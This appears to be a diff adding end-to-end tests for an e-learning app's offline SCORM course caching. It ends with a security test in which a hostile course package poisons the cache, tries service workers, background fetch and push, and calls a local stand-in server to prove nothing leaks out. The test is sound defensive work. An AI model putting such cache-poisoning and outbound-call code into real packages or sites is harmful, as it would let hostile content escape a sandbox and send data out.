@@ -1,0 +1,232 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { Frame, FrameLocator, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { z } from 'zod';
+import { keep } from './kept-course.ts';
+import { allPairs } from './local-pairs.ts';
+import { areThere, golf, importInto, importPage, packagePage } from './packages.ts';
+import { setUp } from './setup.ts';
+import { setUpPhone } from './without-network.ts';
+
+// A product of its own, because these tests stop its server.
+const on = setUp({});
+const phone = setUpPhone(on);
+
+const soon = { timeout: 15_000 };
+
+/** Opens a course, shows its package, and keeps it as a learner does. */
+async function keepPackage(page: Page, slug: string): Promise<void> {
+  await page.goto(phone.at(`/my-learning/${slug}`));
+  await packagePage(page).locator('body').waitFor({ state: 'attached' });
+  await keep(page);
+}
+
+/** The frame of a package's page. */
+const frameOf = (page: Page): Frame | undefined => page.frames().find((frame) => frame.url().includes('/c/'));
+
+/** Everything in the caches of the package's origin: addresses, and the text of what is not a picture. */
+const keptThere = (frame: Frame | undefined) =>
+  frame?.evaluate(async () => {
+    const found: { url: string; text: string }[] = [];
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const request of await cache.keys())
+        found.push({ url: request.url, text: (await (await cache.match(request))?.text()) ?? '' });
+    }
+    return found;
+  });
+
+const waiting = async (page: Page) => Object.keys(await allPairs(page, 'rtw.scorm/')).length;
+
+test('a course of ours that is a package is kept, played from a cold start without a network, and sent once', async () => {
+  const learner = await on.records.learner('Qhawe', 'Xulu');
+  const [slug, module] = ['creative_thinking', 17];
+  let page = await phone.start();
+  await phone.signedIn(page, learner.email);
+  await keepPackage(page, slug);
+  const there = (await keptThere(frameOf(page))) ?? [];
+  expect(there.map(({ url }) => new URL(url).pathname)).toEqual(
+    expect.arrayContaining(['/p/player-1.2.html', '/p/keeper.html', '/kept/index.html', '/kept.json']),
+  );
+  const { base_url } = z
+    .object({ base_url: z.string() })
+    .parse(await (await page.request.get(phone.at(`/v1/scorm/launch/?module_name=${slug}`), await bearer(page))).json());
+  const signature = base_url.split('/').at(-2) ?? '';
+  const all = JSON.stringify(there);
+  for (const secret of [signature, learner.email, 'Qhawe', 'Xulu']) expect(all).not.toContain(secret);
+  const right = await on.records.rightOption(learner.id, module, 1);
+  expect(all).not.toContain(right);
+  await phone.close();
+  await on.product.kill();
+
+  page = await phone.start();
+  await page.goto(phone.at(`/my-learning/${slug}`));
+  let course = packagePage(page);
+  const next = () => course.getByRole('button', { name: /^(Next|Chapter \d+)$/ });
+  await next().click();
+  await next().click();
+  await page.getByText('Waiting for the network: kept on this device').first().waitFor();
+  const heading = await course.getByRole('heading', { level: 2 }).textContent();
+  await expect.poll(() => waiting(page), soon).toBeGreaterThan(0);
+  await page.waitForTimeout(1_500);
+  await phone.close();
+  page = await phone.start();
+  await page.goto(phone.at(`/my-learning/${slug}`));
+  course = packagePage(page);
+  await expect.poll(() => course.getByRole('heading', { level: 2 }).textContent(), soon).toBe(heading);
+  await page.goto(phone.at(`/my-learning/${slug}?view=assessment`));
+  await page.getByRole('radio', { name: right, exact: true }).check();
+  await page.getByRole('button', { name: 'Submit' }).click();
+  await page.getByRole('heading', { name: /^Question 2 / }).waitFor();
+
+  await on.product.start();
+  await page.goto(phone.at(`/my-learning/${slug}`));
+  const stored = async () => (await on.records.scormPairs(learner.id, module)).course;
+  await expect.poll(async () => (await stored())?.['cmi.core.lesson_location'], soon).toBe('1-3');
+  await expect.poll(() => waiting(page), soon).toBe(0);
+  await expect.poll(() => on.records.attempts(learner.id), soon).toMatchObject({ answered: 1 });
+});
+
+/** The header with which a page's own calls go. */
+async function bearer(page: Page) {
+  const session = await page.evaluate(() => localStorage.getItem('_artw') ?? '');
+  return { headers: { authorization: `Bearer ${JSON.parse(session).access}` } };
+}
+
+const made = {
+  basic_12: 'RuntimeBasicCalls_SCORM12',
+  basic_2004: 'RuntimeBasicCalls_SCORM20043rdEdition',
+  forced_2004: 'SequencingForcedSequential_SCORM20043rdEdition',
+  minimum_12: 'RuntimeMinimumCalls_SCORM12',
+  many_12: 'ContentPackagingOneFilePerSCO_SCORM12',
+};
+
+describe.skipIf(!areThere)('packages made by others', () => {
+  const modules = new Map<string, number>();
+  beforeAll(async () => {
+    for (const [slug, file] of Object.entries(made))
+      modules.set(slug, await importInto(on.product, slug, golf(file)));
+  });
+
+  test('five are kept, played without a network, and their progress is sent', async () => {
+    const learner = await on.records.learner();
+    let page = await phone.start();
+    await phone.signedIn(page, learner.email);
+    for (const slug of modules.keys()) await keepPackage(page, slug);
+    await phone.close();
+    await on.product.kill();
+
+    page = await phone.start();
+    page.context().on('dialog', (dialog) => void dialog.accept());
+    for (const slug of modules.keys()) {
+      await page.goto(phone.at(`/my-learning/${slug}`));
+      const course = packagePage(page);
+      await playSome(course);
+      await expect
+        .poll(async () => Object.keys(await allPairs(page, 'rtw.scorm/')).some((key) => key.includes(`/${slug}/`)), soon)
+        .toBe(true);
+    }
+    await on.product.start();
+    await page.goto(phone.at('/my-learning'));
+    await expect.poll(() => waiting(page), { timeout: 30_000 }).toBe(0);
+    for (const [slug, module] of modules) {
+      const stored = Object.values(await on.records.scormPairs(learner.id, module));
+      expect(stored.some((pairs) => Object.keys(pairs).length > 0), slug).toBe(true);
+    }
+  });
+});
+
+async function playSome(course: FrameLocator): Promise<void> {
+  await course.locator('body').waitFor({ state: 'attached' });
+  const next = course.locator('#butNext');
+  if ((await next.count()) === 0) return;
+  await next.click();
+  await next.click();
+}
+
+/** A site that no editor has allowed, and what reached it. */
+const reached: string[] = [];
+const site = createServer((request, response) => {
+  reached.push(`${request.method} ${request.url}`);
+  response.setHeader('access-control-allow-origin', '*');
+  response.end('a page of another site');
+});
+let elsewhere = '';
+beforeAll(async () => {
+  site.listen(0, '127.0.0.1');
+  await once(site, 'listening');
+  const address = site.address();
+  elsewhere = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
+});
+afterAll(async () => {
+  site.closeAllConnections();
+  await new Promise((closed) => site.close(closed));
+});
+
+/** A package that, once kept, puts pages without a policy into the cache, and then tries to tell another site. */
+const attack = () => `<!doctype html><title>A friendly course</title><h1>Hello</h1><pre id="said"></pre><script>
+parent.API.LMSInitialize('');
+const said = {};
+const attempt = async (name, act) => {
+  try { said[name] = String(await act()); } catch (error) { said[name] = 'refused'; }
+};
+const evil = (type, words) => new Response(words, { headers: {
+  'content-type': type, 'content-security-policy': "default-src * 'unsafe-inline'", 'connection-allowlist': '("*")',
+  'reporting-endpoints': 'x="${elsewhere}/reports"', link: '<${elsewhere}/linked>; rel=prefetch', refresh: '0; url=${elsewhere}/refreshed',
+} });
+const call = (to) => '<!doctype html><body><img src="${elsewhere}/' + to + '-img"><script>' +
+  'fetch("${elsewhere}/' + to + '").then(() => parent.postMessage("out", "*"), () => parent.postMessage("held", "*"))<' + '/script>';
+const framed = (address) => new Promise((heard) => {
+  const frame = document.createElement('iframe');
+  addEventListener('message', ({ data, source }) => source === frame.contentWindow && heard(data));
+  setTimeout(() => heard('silent'), 6000);
+  frame.src = address;
+  document.body.append(frame);
+});
+window.poison = async () => {
+  const cache = await caches.open('rtw-package');
+  const root = location.origin + '/kept/';
+  await cache.put(root + 'evil.html', evil('text/html', call('page')));
+  await cache.put(root + 'evil.xhtml', evil('multipart/x-mixed-replace; boundary=x', call('mixed')));
+  await cache.put(root + 'work.js', evil('text/javascript', 'fetch("${elsewhere}/worker").then(() => postMessage("out"), () => postMessage("held"))'));
+  await cache.put(location.origin + '/p/evil.html', evil('text/html', call('player')));
+  return 'done';
+};
+window.attack = async () => {
+  for (const script of ['worker.js', 'worker.js?/package-worker.js', '/package-worker.js?x', '/p/package-worker.js', '//' + location.host + '/files/x'])
+    await attempt('register ' + script, () => navigator.serviceWorker.register(script).then(() => 'registered'));
+  await attempt('page', () => framed('evil.html'));
+  await attempt('mixed', () => framed('evil.xhtml'));
+  await attempt('player', () => framed('/p/evil.html'));
+  await attempt('worker', () => new Promise((heard) => { new Worker('work.js').onmessage = ({ data }) => heard(data); setTimeout(() => heard('silent'), 6000); }));
+  const registration = await navigator.serviceWorker.getRegistration('/');
+  await attempt('background fetch', () => registration.backgroundFetch.fetch('x', ['${elsewhere}/background']).then(() => 'started'));
+  await attempt('push', () => registration.pushManager.subscribe({ userVisibleOnly: true }).then(() => 'subscribed'));
+  await attempt('other caches', async () => (await caches.keys()).join());
+  registration.active.postMessage({ kind: 'remove' });
+  await attempt('fetch', () => fetch('${elsewhere}/fetch').then(() => 'out'));
+  return said;
+};
+</script>`;
+
+test('a kept package reaches no other site, whatever it puts into the cache', async () => {
+  const learner = await on.records.learner();
+  await importPage(on.product, 'poisoned', attack(), { 'worker.js': 'self.postMessage?.("")' });
+  let page = await phone.start();
+  await phone.signedIn(page, learner.email);
+  await keepPackage(page, 'poisoned');
+  expect(await frameOf(page)?.evaluate('poison()')).toBe('done');
+  await phone.close();
+  await on.product.kill();
+  reached.splice(0);
+
+  page = await phone.start();
+  await page.goto(phone.at('/my-learning/poisoned'));
+  await packagePage(page).getByRole('heading', { name: 'Hello' }).waitFor();
+  const outcome = await frameOf(page)?.evaluate('attack()');
+  await page.waitForTimeout(1_000);
+  expect(outcome).toEqual({});
+  expect(reached).toEqual([]);
+  await on.product.start();
+});
